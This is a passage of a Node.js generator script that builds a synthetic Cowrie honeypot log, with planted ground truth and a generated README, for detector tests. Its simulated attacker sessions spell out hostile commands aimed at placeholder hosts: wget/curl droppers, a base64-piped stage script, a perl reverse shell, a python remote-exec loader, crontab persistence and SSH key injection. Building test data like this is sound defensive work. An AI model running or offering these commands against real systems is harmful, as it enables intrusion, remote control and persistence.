];
const DROPPER_HOSTS = ['198.51.100.23', '203.0.113.77', 'files.cdn-mirror.example', 'get.update-svc.test'];
const HTTP_TARGETS = ['www.shop.example', 'news.portal.example', 'ipinfo.check.test', '198.18.44.10', '198.19.2.200'];
const SMTP_TARGETS = ['mx1.mailhost.example', 'smtp.mail-relay.test', '198.18.9.25'];
const TLS_TARGETS = ['login.webmail.example', 'api.payments.test', '198.19.100.4'];
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'curl/8.4.0',
  'python-requests/2.31.0',
];
const payloadFor = (name) => Buffer.from(`#!/bin/sh\n# synthetic sample payload '${name}' written for cowrieprocessor tests; not malware\n`);

// ---------------------------------------------------------------------------------------------
// 1. Thinly spread brute-force campaign ("snowshoe") — planted ground truth
// ---------------------------------------------------------------------------------------------
const CAMPAIGN_CREDS = [
  ['root', 'Harbor#2025'], ['admin', 'Adm1n!harbor'], ['ubuntu', 'ubuntu@harbor'], ['deploy', 'deploy#harbor25'],
  ['git', 'g1t-harbor'], ['postgres', 'pg!harbor25'], ['oracle', '0racle$harbor'], ['ftpuser', 'ftp@harbor'],
  ['test', 't3st!harbor'], ['user1', 'harbor-user1'], ['support', 'supp0rt#harbor'], ['jenkins', 'jenk1ns@harbor'],
];
const CAMPAIGN_PROFILE = PROFILES.libssh2;
const CAMPAIGN_VERSION = CAMPAIGN_PROFILE.versions[0];
const campaign = { ips: [], sessions: [] };
{
  const nIps = 40;
  for (let i = 0; i < nIps; i++) campaign.ips.push(publicIp({ new16: true }));
  let credCursor = 0;
  for (const ip of campaign.ips) {
    const n = rng.weighted([[1, 45], [2, 35], [3, 20]]);
    for (let k = 0; k < n; k++) {
      const s = new Session({ sensor: pickSensor(), srcIp: ip, start: randomStart(), kind: 'snowshoe' });
      s.handshake(CAMPAIGN_PROFILE, CAMPAIGN_VERSION);
      const tries = rng.int(3, 4);
      for (let j = 0; j < tries; j++) {
        const [u, p] = CAMPAIGN_CREDS[credCursor % CAMPAIGN_CREDS.length];
        credCursor++;
        s.login(u, p, false, [400, 1800]);
      }
      s.close(50, 400);
      campaign.sessions.push({ sensor: s.sensor.name, session: s.id, srcIp: ip, start: fmtTs(s.start) });
    }
  }
}

// ---------------------------------------------------------------------------------------------
// 2. Botnet-like group — planted ground truth
// ---------------------------------------------------------------------------------------------
const BOTNET_CREDS = ['root', 'Gr33nfield!9'];
const BOTNET_URL = 'http://dl.botfarm.example/bins.sh';
const BOTNET_FAILED_URL = 'http://mirror.botfarm.test/x86_64';
const BOTNET_KEY_LINE = `ssh-rsa ${BOTNET_KEY_B64} ${BOTNET_KEY_COMMENT}`;
const BOTNET_SCRIPT = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  `cd /tmp && wget ${BOTNET_URL}; chmod +x bins.sh; sh bins.sh`,
  `curl -s -O ${BOTNET_FAILED_URL}; chmod 777 x86_64; ./x86_64 ssh.bot`,
  `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${BOTNET_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh`,
  'nvidia-smi --list-gpus',
];
const botnet = { ips: [], sessions: [] };
{
  for (let i = 0; i < 8; i++) botnet.ips.push(docIp());
  for (const ip of botnet.ips) {
    const n = rng.weighted([[1, 30], [2, 45], [3, 25]]);
    for (let k = 0; k < n; k++) {
      const s = new Session({ sensor: pickSensor(), srcIp: ip, start: randomStart(), kind: 'botnet' });
      s.handshake(PROFILES.go);
      s.login(BOTNET_CREDS[0], BOTNET_CREDS[1], true, [200, 900]);
      if (rng.chance(0.6)) s.size(80, 24);
      s.env('LANG', 'C.UTF-8');
      s.params();
      s.cmd(BOTNET_SCRIPT[0], { gap: [100, 600] });
      s.cmd(BOTNET_SCRIPT[1], { gap: [100, 600] });
      s.cmd(BOTNET_SCRIPT[2], { gap: [100, 600] });
      s.download({ url: BOTNET_URL, payload: payloadFor('bins.sh'), destfile: '/tmp/bins.sh' });
      s.cmd(BOTNET_SCRIPT[3], { gap: [100, 600] });
      s.downloadFailed(BOTNET_FAILED_URL);
      s.wait(1, 5).ev('cowrie.command.failed', { input: './x86_64 ssh.bot' }, 'Command not found: ./x86_64 ssh.bot');
      s.cmd(BOTNET_SCRIPT[4], { gap: [100, 600] });
      s.download({ payload: Buffer.from(BOTNET_KEY_LINE + '\n'), destfile: '/root/.ssh/authorized_keys' });
      s.cmd(BOTNET_SCRIPT[5], { failed: ['nvidia-smi --list-gpus'], gap: [100, 600] });
      // identical keystrokes -> identical tty log -> `duplicate: true` after the first per sensor
      s.ttyClosed(`botnet-tty\n${BOTNET_SCRIPT.join('\n')}\n`);
      s.close(20, 300);
      botnet.sessions.push({ sensor: s.sensor.name, session: s.id, srcIp: ip, start: fmtTs(s.start) });
    }
  }
}

// ---------------------------------------------------------------------------------------------
// 3. Background: scanners
// ---------------------------------------------------------------------------------------------
const scannerIps = [];
let firstScannerSession = null;
function scannerSession(srcIp) {
  const sensor = pickSensor();
  if (rng.chance(0.1)) {
    // a telnet port probe: connect, nothing, close
    const s = new Session({ sensor, srcIp, protocol: 'telnet', start: randomStart(), kind: 'scanner' });
    s.connect().close(200, 12000);
    return s;
  }
  const s = new Session({ sensor, srcIp, start: randomStart(), kind: 'scanner' });
  s.connect();
  const r = rng.next();
  if (r < 0.12) {
    s.close(100, 5000);
  } else if (r < 0.2) {
    s.version(rng.pick(ODD_VERSIONS)).close(5, 300);
  } else if (r < 0.3) {
    s.version(rng.pick(rng.pick(Object.values(PROFILES).filter((p) => p.name !== 'libssh2')).versions)).close(5, 2000);
  } else {
    const p = rng.weighted([[PROFILES.go, 30], [PROFILES.zgrab, 20], [PROFILES.libssh, 20], [PROFILES.openssh, 12], [PROFILES.paramiko, 12], [PROFILES.putty, 6]]);
    s.version(rng.pick(p.versions)).kex(p).close(50, 3000);
  }
  return s;
}
{
  const n = 85 * DAYS;
  for (let i = 0; i < n; i++) {
    let ip;
    if (scannerIps.length > 5 && rng.chance(0.3)) ip = rng.pick(scannerIps);
    else {
      ip = anyIp();
      scannerIps.push(ip);
    }
    const s = scannerSession(ip);
    if (!firstScannerSession && s.sensor === SENSORS[0]) firstScannerSession = s;
  }
  // IPv6 scanner
  const v6 = '2001:db8:c0:ffee::5';
  for (let i = 0; i < 2; i++) scannerSession(v6);
}

// ---------------------------------------------------------------------------------------------
// 4. Background: password brute force (heavy hitters and one-offs)
// ---------------------------------------------------------------------------------------------
const heavyHitters = [];
function bruteSession(srcIp, start, p, { kind = 'bruteforce' } = {}) {
  const s = new Session({ sensor: pickSensor(), srcIp, start, kind });
  s.handshake(p);
  const tries = rng.int(1, 6);
  let success = false;
  for (let j = 0; j < tries && !success; j++) {
    const [u, pw] = rng.pick(COMMON_CREDS);
    success = rootAccepts(u, pw) && rng.chance(0.35);
    s.login(u, pw, success);
  }
  if (success && rng.chance(0.6)) {
    if (rng.chance(0.5)) s.size(rng.pick([80, 120, 200]), rng.pick([24, 40, 50]));
    s.params();
    if (rng.chance(0.15)) {
      const host = rng.pick(DROPPER_HOSTS);
      const file = rng.pick(['x86', 'a.sh', 'sys.x86_64', 'k.sh']);
      const url = `http://${host}/${file}`;
      s.cmd(`cd /tmp || cd /var/tmp; wget -q ${url} -O .${file}; chmod +x .${file}; ./.${file}`);
      if (rng.chance(0.5)) {
        s.download({ url, payload: payloadFor(`${host}/${file}`), destfile: `/tmp/.${file}` });
        s.wait(1, 10).ev('cowrie.command.failed', { input: `./.${file}` }, `Command not found: ./.${file}`);
      } else s.downloadFailed(url);
    } else {
      const script = rng.pick(RECON_SCRIPTS);
      script.cmds.forEach((c, i) => s.cmd(c, { failed: script.failed?.[i] ?? [] }));
    }
    s.ttyClosed();
  }
  s.close();
  return s;
}
{
  const bruteProfiles = () => rng.weighted([[PROFILES.go, 40], [PROFILES.libssh, 25], [PROFILES.paramiko, 15], [PROFILES.openssh, 10], [PROFILES.putty, 10]]);
  const nHeavy = 10;
  for (let i = 0; i < nHeavy; i++) {
    const ip = i < 4 ? publicIp() : docIp();
    const p = bruteProfiles();
    const burstStart = randomStart(START_US, END_US - 10 * 3600 * US);
    const burstLen = rng.int(2, 8) * 3600 * US;
    const n = Math.max(4, Math.round((rng.int(10, 28) * DAYS) / 3));
    for (let k = 0; k < n; k++) bruteSession(ip, burstStart + Math.floor(rng.next() * burstLen), p);
    heavyHitters.push({ srcIp: ip, sessions: n, client: p.name });
  }
  const oneOffs = 45 * DAYS;
  const pool = [];
  for (let i = 0; i < oneOffs; i++) {
    let ip;
    if (pool.length > 5 && rng.chance(0.2)) ip = rng.pick(pool);
    else {
      ip = anyIp();
      pool.push(ip);
    }
    bruteSession(ip, randomStart(), bruteProfiles());
  }
  // IPv6 brute forcer
  for (let i = 0; i < 3; i++) bruteSession('2001:db8:9f3::1:2', randomStart(), PROFILES.paramiko);
}

// ---------------------------------------------------------------------------------------------
// 5. Telnet (no client.version / kex; busybox-style commands; float durations)
// ---------------------------------------------------------------------------------------------
const TELNET_CREDS = [['root', '12345'], ['admin', 'admin'], ['support', 'support'], ['root', 'default'], ['user', 'user'], ['root', 'ipcam2024'], ['admin', '1234'], ['guest', '12345']];
function telnetSession(srcIp) {
  const s = new Session({ sensor: pickSensor(), srcIp, protocol: 'telnet', start: randomStart(), kind: 'telnet' });
  s.connect();
  const order = rng.shuffle(TELNET_CREDS);
  const fails = rng.int(0, 3);
  for (let j = 0; j < fails; j++) s.login(...order[j], false, [800, 4000]);
  s.login(...order[fails], true, [800, 4000]);
  s.shellStart = s.t;
  s.cmd('enable', { failed: ['enable'], gap: [300, 1200] });
  s.cmd('system', { failed: ['system'], gap: [300, 1200] });
  s.cmd('shell', { failed: ['shell'], gap: [300, 1200] });
  s.cmd('sh', { gap: [300, 1200] });
  const tag = Array.from({ length: 5 }, () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'[rng.int(0, 25)]).join('');
  s.cmd(`cat /proc/mounts; /bin/busybox ${tag}`, { gap: [300, 1200] });
  if (rng.chance(0.7)) {
    const arch = rng.pick(['mips', 'arm7', 'x86', 'mpsl']);
    const host = rng.pick(['203.0.113.66', '198.51.100.140', 'bins.iot-loader.invalid']);
    const url = `http://${host}/bins/${arch}`;
    s.cmd(`cd /tmp || cd /var/run || cd /dev/shm; wget ${url} -O .d; chmod 777 .d; ./.d telnet.${arch}`, { gap: [300, 1200] });
    if (rng.chance(0.5)) {
      s.download({ url, payload: payloadFor(`iot/${arch}`), destfile: '/tmp/.d' });
      s.wait(1, 10).ev('cowrie.command.failed', { input: `./.d telnet.${arch}` }, `Command not found: ./.d telnet.${arch}`);
    } else s.downloadFailed(url);
  }
  s.ttyClosed();
  return s.close(100, 3000);
}
{
  const n = 9 * DAYS;
  for (let i = 0; i < n; i++) telnetSession(anyIp());
  telnetSession('::ffff:198.51.100.77'); // telnet keeps the IPv4-mapped form
}

// ---------------------------------------------------------------------------------------------
// 6. direct-tcpip proxy abuse
// ---------------------------------------------------------------------------------------------
function fakeClientHello(label) {
  const random = createHash('sha256').update(label).digest();
  const body = Buffer.concat([Buffer.from([0x01, 0x00, 0x00, 0xfc, 0x03, 0x03]), random, Buffer.from([0x20]), random, Buffer.from([0x00, 0x3e, 0x13, 0x02, 0x13, 0x03, 0x13, 0x01, 0xc0, 0x2c, 0xc0, 0x30, 0x00, 0x9f, 0xcc, 0xa9])]);
  return Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x01, 0x00]), body]);
}
const proxyIps = [];
function proxySession() {
  let ip;
  if (proxyIps.length > 3 && rng.chance(0.6)) ip = rng.pick(proxyIps);
  else {
    ip = anyIp();
    proxyIps.push(ip);
  }
  const s = new Session({ sensor: pickSensor(), srcIp: ip, start: randomStart(), kind: 'proxy' });
  s.handshake(rng.weighted([[PROFILES.go, 60], [PROFILES.paramiko, 25], [PROFILES.libssh, 15]]));
  s.login(...rng.pick([['root', 'admin'], ['root', 'root123'], ['root', 'Passw0rd']]), true, [200, 1200]);
  const n = rng.int(1, 5);
  const claimed = rng.pick([['127.0.0.1', () => rng.int(1025, 65535)], ['0.0.0.0', () => 0], ['localhost', () => 0], ['::1', () => rng.int(1025, 65535)]]);
  for (let i = 0; i < n; i++) {
    const kind = rng.weighted([['http', 55], ['smtp', 25], ['tls', 20]]);
    const claimedPort = claimed[1]();
    if (kind === 'http') {
      const host = rng.pick(HTTP_TARGETS);
      s.tcpipRequest(host, 80, claimed[0], claimedPort);
      const path1 = rng.pick(['/', '/ip', '/json', '/wp-login.php', '/index.php?page=1']);
      const req = `GET ${path1} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${rng.pick(USER_AGENTS)}\r\nAccept: */*\r\nConnection: close\r\n\r\n`;
      if (rng.chance(0.4)) s.ja4('ja4h', `ge11nn04${rng.pick(['0000', '0100'])}_${sha256(req).slice(0, 12)}_000000000000_000000000000`, host, 80);
      s.tcpipData(host, 80, Buffer.from(req), i);
    } else if (kind === 'smtp') {
      const host = rng.pick(SMTP_TARGETS);
      s.tcpipRequest(host, 25, claimed[0], claimedPort);
      s.tcpipData(host, 25, Buffer.from(rng.pick(['EHLO relay.sender.invalid\r\n', 'QUIT\r\n', 'HELO [198.51.100.9]\r\n'])), i);
    } else {
      const host = rng.pick(TLS_TARGETS);
      s.tcpipRequest(host, 443, claimed[0], claimedPort);
      const hello = fakeClientHello(`${s.id}/${i}`);
      s.ja4('ja4', `t13d${rng.pick(['1516', '1715', '3112'])}h2_${sha256(hello).slice(0, 12)}_${sha256(host).slice(0, 12)}`, host, 443);
      s.tcpipData(host, 443, hello, i);
    }
  }
  return s.close(100, 2000);
}
{
  const n = 11 * DAYS;
  for (let i = 0; i < n; i++) proxySession();
}

// ---------------------------------------------------------------------------------------------
// 7. Long tail: rare one-off sessions, a human-looking session, a session-id collision
// ---------------------------------------------------------------------------------------------
const longTail = [];
function oneOff(description, build, { srcIp = docIp(), sensor = pickSensor(), forceId, profile = PROFILES.openssh } = {}) {
  const s = new Session({ sensor, srcIp, start: randomStart(), kind: 'longtail', forceId });
  s.handshake(profile);
  build(s);
  s.ttyClosed();
  s.close();
  longTail.push({ sensor: s.sensor.name, session: s.id, srcIp, description });
  return s;
}
const STAGE_SCRIPT = '#!/bin/sh\n# synthetic stage-1 for tests\ncd /tmp; (wget -qO- http://stage2.payload.invalid/k.sh || curl -fsSL http://stage2.payload.invalid/k.sh) | sh\n';
oneOff('base64-encoded payload echoed into `base64 -d | sh`', (s) => {
  s.login('root', 'server2024', true).params();
  s.cmd(`echo ${Buffer.from(STAGE_SCRIPT).toString('base64')} | base64 -d | sh`);
  s.downloadFailed('http://stage2.payload.invalid/k.sh');
});
oneOff('perl reverse-shell one-liner', (s) => {
  s.login('root', 'letmein!', true).params();
  s.cmd(`perl -e 'use Socket;$i="203.0.113.250";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`);
});
oneOff('python one-liner fetching and exec-ing a script', (s) => {
  s.login('root', 'Welcome1', true).params();
  s.cmd(`python3 -c "import urllib.request as u;exec(u.urlopen('http://py.loader.test/p.py').read())"`);
});
oneOff('crontab persistence and literal \\x escapes typed by the attacker', (s) => {
  s.login('root', 'Qwe!23zz', true).params();
  s.cmd(`echo -e '\\x73\\x79\\x6e\\x74\\x68\\x65\\x74\\x69\\x63'`);
  s.cmd('(crontab -l 2>/dev/null; echo "*/7 * * * * curl -fsSL http://cron.persist.test/u.sh | sh") | crontab -');
});
oneOff('SFTP upload of a file', (s) => {
  s.login('root', 'sftp-only', true);
  s.upload('/tmp/.cache/agent', payloadFor('sftp-agent'));
});
oneOff(
  'public-key attempt (client.fingerprint) then password login, interactive recon',
  (s) => {
    s.fingerprintAttempt('root', fakeEd25519('cowrie-sample/long-tail-ed25519'));
    s.login('root', 'Spr1ng2025', true);
    s.size(143, 38).env('LANG', 'en_US.UTF-8').params();
    for (const c of ['w', 'ls -la', 'cat /etc/passwd', 'history | tail -n 20', 'exit']) s.cmd(c, { gap: [1500, 7000] });
  },
  { srcIp: '2001:db8:4a1:7::23' },
);
// A session id that also exists on another sensor: Cowrie ids are random per connection and not
// unique across sensors, so consumers must key sessions on (sensor, session).
const collisionSensor = SENSORS.find((x) => x !== firstScannerSession.sensor);
oneOff(
  'reuses the session id of a scanner session on another sensor (key on sensor + session)',
  (s) => {
    s.login('admin', 'admin', false).login('root', 'hunter22', true).params();
    s.cmd('uname -r; cat /proc/version');
  },
  { sensor: collisionSensor, forceId: firstScannerSession.id },
);

// ---------------------------------------------------------------------------------------------
// Write
// ---------------------------------------------------------------------------------------------
events.sort((a, b) => a.t - b.t || a.seq - b.seq);
for (const e of events) if (e.dup) e.obj.duplicate = seenBefore(e.dup.map, e.obj.sensor, e.dup.sha);
const lines = events.map((e) => dumps(e.obj));
const body = lines.join('\n') + '\n';
mkdirSync(path.dirname(OUT), { recursive: true });
writeFileSync(OUT, body);

const eventids = {};
for (const e of events) eventids[e.obj.eventid] = (eventids[e.obj.eventid] ?? 0) + 1;
const sortedIds = Object.fromEntries(Object.entries(eventids).sort(([a], [b]) => a.localeCompare(b)));
const sessionsPerSensor = {};
for (const s of sessionsIndex) sessionsPerSensor[s.sensor] = (sessionsPerSensor[s.sensor] ?? 0) + 1;
const kinds = {};
for (const s of sessionsIndex) kinds[s.kind] = (kinds[s.kind] ?? 0) + 1;
const distinct16 = new Set(campaign.ips.map(slash16)).size;

const relOut = path.relative(ROOT, OUT).startsWith('..') ? OUT : path.relative(ROOT, OUT);
const groundTruth = {
  description:
    'Planted ground truth of the synthetic sample log. All addresses, domains, credentials, keys and hashes are synthetic.',
  generator: {
    script: 'scripts/generate-sample-log.mjs',
    seed: SEED_TEXT,
    days: DAYS,
    windowStart: fmtTs(START_US),
    windowEnd: fmtTs(END_US),
    cowrieEra: 'v2.9.x (compact JSON, uuid + protocol on every event, SSH durations as "%.1f" strings)',
  },
  file: {
    path: relOut,
    bytes: Buffer.byteLength(body),
    sha256: sha256(body),
    events: events.length,
    sessions: sessionsIndex.length,
    firstTimestamp: fmtTs(events[0].t),
    lastTimestamp: fmtTs(events[events.length - 1].t),
    eventids: sortedIds,
    sessionsBySensor: sessionsPerSensor,
    sessionsByKind: kinds,
  },
  sensors: SENSORS.map(({ name, uuid, dstIp, dstIp6 }) => ({ name, uuid, dstIp, dstIp6 })),
  snowshoeCampaign: {
    description:
      'Thinly spread password brute force: many source IPs across distinct /16s, 1-3 short sessions each, all failed, all drawing from one 12-pair dictionary with the same client version and HASSH.',
    clientVersion: CAMPAIGN_VERSION,
    hassh: CAMPAIGN_PROFILE.hassh,
    credentials: CAMPAIGN_CREDS.map(([username, password]) => ({ username, password })),
    memberIps: campaign.ips,
    distinctSlash16: distinct16,
    exclusiveClient: true,
    sessions: campaign.sessions,
  },
  botnet: {
    description:
      'Coordinated bots: each logs in successfully with the same credentials and runs the same command script (download, failed mirror download, SSH key injection).',
    clientVersion: PROFILES.go.versions[0],
    hassh: PROFILES.go.hassh,
    credentials: { username: BOTNET_CREDS[0], password: BOTNET_CREDS[1] },
    commands: BOTNET_SCRIPT,
    downloadUrl: BOTNET_URL,
    downloadSha256: sha256(payloadFor('bins.sh')),
    failedDownloadUrl: BOTNET_FAILED_URL,
    injectedKey: {
      type: 'ssh-rsa',
      comment: BOTNET_KEY_COMMENT,
      bits: BOTNET_KEY_INFO.bits,
      md5: BOTNET_KEY_INFO.md5,
      sha256: BOTNET_KEY_INFO.sha256,
      authorizedKeysSha256: sha256(Buffer.from(BOTNET_KEY_LINE + '\n')),
    },
    memberIps: botnet.ips,
    sessions: botnet.sessions,
  },
  longTail,
  sessionIdCollision: {
    session: firstScannerSession.id,
    occurrences: sessionsIndex
      .filter((s) => s.session === firstScannerSession.id)
      .map(({ sensor, srcIp, kind }) => ({ sensor, srcIp, kind })),
  },
  ipv6Sources: [...new Set(sessionsIndex.filter((s) => s.srcIp.includes(':')).map((s) => s.srcIp))],
  heavyHitters,
};
mkdirSync(DOCS_DIR, { recursive: true });
writeFileSync(path.join(DOCS_DIR, 'ground-truth.json'), JSON.stringify(groundTruth, null, 2) + '\n');
writeFileSync(path.join(DOCS_DIR, 'README.md'), renderReadme(groundTruth));

process.stdout.write(
  `wrote ${relOut}: ${events.length} events, ${sessionsIndex.length} sessions, ${Buffer.byteLength(body)} bytes (seed ${SEED_TEXT}, ${DAYS} days)\n`,
);

// ---------------------------------------------------------------------------------------------
// README (generated, so the ground truth it lists always matches the log)
// ---------------------------------------------------------------------------------------------
function renderReadme(gt) {
  const f = gt.file;
  const idRows = Object.entries(f.eventids)
    .map(([id, n]) => `| \`${id}\` | ${n} |`)
    .join('\n');
  const camp = gt.snowshoeCampaign;
  const bot = gt.botnet;
  const ipsBySessions = (sessions) => {
    const m = new Map();
    for (const s of sessions) m.set(s.srcIp, [...(m.get(s.srcIp) ?? []), `${s.sensor}/${s.session}`]);
    return [...m.entries()].map(([ip, ss]) => `| ${ip} | ${ss.length} | ${ss.map((x) => `\`${x}\``).join(', ')} |`).join('\n');
  };
  return `# Sample Cowrie log

\`cowrie.json\` is a **synthetic** Cowrie honeypot log written by
\`scripts/generate-sample-log.mjs\` for demos (\`npm run demo\`), documentation and detector tests.
It imitates the *shape* of a real Cowrie v2.9-era \`cowrie.json\` (compact JSON, Cowrie's key order,
\`uuid\` and \`protocol\` on every event, 6-digit \`Z\` timestamps, 12-hex session ids, SSH
\`duration\` as a \`"%.1f"\` string, telnet \`duration\` as a float, \`session.params\` with
\`"message": []\`, direct-tcpip \`data\` as a Python \`repr(bytes)\` string).

**Nothing in it is real.** All IP addresses, domains, credentials, keys, session ids and hashes are
made up. Addresses come from the documentation and benchmarking ranges (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, 198.18.0.0/15, 2001:db8::/32), except where a scenario needs
many distinct /16 networks (the thinly spread campaign and part of the background noise): those
addresses are drawn from a seeded PRNG in public-looking space and belong to nobody in particular.
Domains use the reserved \`.example\`, \`.test\` and \`.invalid\` TLDs. File hashes are SHA-256 of
short made-up payloads ("synthetic sample payload … not malware"). The botnet's SSH key is a real,
well-formed 2048-bit RSA public key generated once for this file; its private half was discarded.

## Contents

- ${f.events} events, ${f.sessions} sessions, ${(f.bytes / 1e6).toFixed(2)} MB, ${f.firstTimestamp} → ${f.lastTimestamp}
- 3 sensors: ${gt.sensors.map((s) => `\`${s.name}\` (${f.sessionsBySensor[s.name]} sessions)`).join(', ')}
- Sessions by scenario: ${Object.entries(f.sessionsByKind).map(([k, n]) => `${k} ${n}`).join(', ')}
  - **scanner**: connect → client.version → client.kex (hassh + algorithm lists) → closed; some stop
    before the version or send a non-SSH banner; some probe the telnet port and leave.
  - **bruteforce**: ${gt.heavyHitters.length} heavy-hitter IPs in bursts plus many one-off IPs trying common
    dictionary pairs (root/123456, admin/admin, ubnt/ubnt, root/"" …); a few succeed and run recon
    commands or a dropper (file_download / file_download.failed, command.failed), with log.closed.
  - **telnet**: no client.version/kex, busybox-style commands (\`enable\`, \`system\`, \`shell\`, \`sh\`,
    \`/bin/busybox XXXXX\`), float durations; one from \`::ffff:198.51.100.77\`.
  - **proxy**: direct-tcpip.request/data (HTTP, SMTP, TLS) with \`ja4\`/\`ja4h\` events.
  - **snowshoe**, **botnet**, **longtail**: planted, see below.
- Event ids:

| eventid | events |
|---|---|
${idRows}

## Planted ground truth

Machine-readable in [\`ground-truth.json\`](ground-truth.json) (member IPs and every session as
\`sensor/session\`).

### Thinly spread campaign (snowshoe)

${camp.memberIps.length} source IPs in ${camp.distinctSlash16} distinct /16 networks, each making only 1–3 short sessions
(${camp.sessions.length} in all) spread over the whole window and all three sensors. Every session uses client
\`${camp.clientVersion}\` with HASSH \`${camp.hassh}\` (no other session in the file uses this client) and
tries 3–4 pairs from the same 12-pair dictionary, always failing:

${camp.credentials.map((c) => `\`${c.username}\` / \`${c.password}\``).join(', ')}

| source IP | sessions | sensor/session |
|---|---|---|
${ipsBySessions(camp.sessions)}

### Botnet-like group

${bot.memberIps.length} source IPs (${bot.sessions.length} sessions), client \`${bot.clientVersion}\` (a common client, also used by
background noise). Each session logs in with \`${bot.credentials.username}\` / \`${bot.credentials.password}\`, sends
client.size (sometimes), client.var \`LANG=C.UTF-8\`, session.params, then runs this script, one
\`command.input\` per line:

\`\`\`sh
${bot.commands.join('\n')}
\`\`\`

resulting in a \`file_download\` of \`${bot.downloadUrl}\` (sha256 \`${bot.downloadSha256}\`,
\`duplicate: true\` after the first on each sensor), a \`file_download.failed\` for \`${bot.failedDownloadUrl}\`,
\`command.failed\` for \`./x86_64 ssh.bot\` and \`nvidia-smi --list-gpus\`, and a redirect capture of
\`/root/.ssh/authorized_keys\` (sha256 \`${bot.injectedKey.authorizedKeysSha256}\`). The injected key
(\`${bot.injectedKey.comment}\`) has fingerprint \`${bot.injectedKey.sha256}\` / MD5 \`${bot.injectedKey.md5}\`.

| source IP | sessions | sensor/session |
|---|---|---|
${ipsBySessions(bot.sessions)}

### Long tail and other traps

${gt.longTail.map((l) => `- \`${l.sensor}/${l.session}\` from ${l.srcIp}: ${l.description}`).join('\n')}
- Session id \`${gt.sessionIdCollision.session}\` occurs on two sensors (${gt.sessionIdCollision.occurrences.map((o) => `\`${o.sensor}\` ${o.kind} from ${o.srcIp}`).join(' and ')}): key sessions on (sensor, session).
- IPv6 sources: ${gt.ipv6Sources.map((ip) => `\`${ip}\``).join(', ')} (the telnet one is IPv4-mapped and should be stored as IPv4).

## Regenerate

\`\`\`sh
node scripts/generate-sample-log.mjs                 # this directory, seed ${gt.generator.seed}, ${gt.generator.days} days
node scripts/generate-sample-log.mjs --out /tmp/big/cowrie.json --days 14 --seed 7
\`\`\`

The generator is deterministic: the same arguments give byte-identical output (sha256 of this
\`cowrie.json\`: \`${f.sha256}\`). \`--out\` chooses the log file; \`ground-truth.json\` and this
README are written next to it (or to \`--docs-dir\`). Background volume scales with \`--days\`; the
planted campaign and botnet keep their size and spread over the window.
`;
}
